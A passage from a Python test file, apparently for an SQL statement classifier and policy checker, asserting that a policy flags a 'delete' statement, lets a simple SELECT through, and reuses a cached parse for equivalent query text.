    assert v is not None and v.kinds == ("delete",)
    assert pol.check(b"SELECT * FROM t WHERE id = 5") is None and classifier.parses == 2
    monkeypatch.undo()
    # the text's own key is the same: no parse for it
    assert classifier.classify(b"select * from t where id = 9") == {"select"}
    assert classifier.parses == 2
